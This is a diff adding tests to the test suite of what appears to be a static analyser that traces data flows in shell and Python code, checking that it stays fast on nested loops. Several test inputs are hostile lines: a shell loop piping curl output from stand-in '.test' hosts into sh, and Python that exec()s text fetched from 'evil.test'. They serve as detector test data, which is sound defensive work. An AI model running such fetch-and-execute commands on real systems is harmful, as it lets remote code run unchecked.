@@ -56,6 +56,26 @@ describe('hostile code ends in time', () => {
     }
     expect(py('a = "ab" * 5000\nb = a + a\nc = b + b\nprint(c)').gaps).toEqual([]);
   });
+  it('loops of a shell within loops do not multiply, which is told', () => {
+    const inner = 'x=$x$i\n'.repeat(2_000);
+    for (const [open, body] of [
+      ['for i in 1 2 3 4 5; do', 'x=$x$i\n'],
+      ['while read i; do', inner],
+      ['for i in a b; do', inner],
+    ] as const) {
+      const result = sh(`${`${open}\n`.repeat(40)}${body}${'done\n'.repeat(40)}`);
+      expect(result.ms).toBeLessThan(4_000);
+      expect(result.gaps).toContain('code-loops');
+    }
+    const plain = sh('for a in x y; do for b in 1 2; do curl "https://$a$b.test/f" | sh; done; done');
+    expect(plain.gaps).toEqual([]);
+    expect(plain.flows().map((f) => f.host)).toEqual(expect.arrayContaining(['x1.test', 'y2.test']));
+  });
+  it('what was received stays known among dozens of variables', () => {
+    const keys = Array.from({ length: 60 }, (_, i) => `os.environ["A${i}"]`).join(' + ');
+    const result = py(`import os, requests\nexec(${keys} + requests.get("https://evil.test").text)`);
+    expect(result.flows().some((f) => f.to === 'evaluate' && f.from.includes('net'))).toBe(true);
+  });
   it('self and circular imports', () => {
     const result = run({
       'a.py': 'import a\nimport b\nb.f()\ndef g():\n    b.f()',
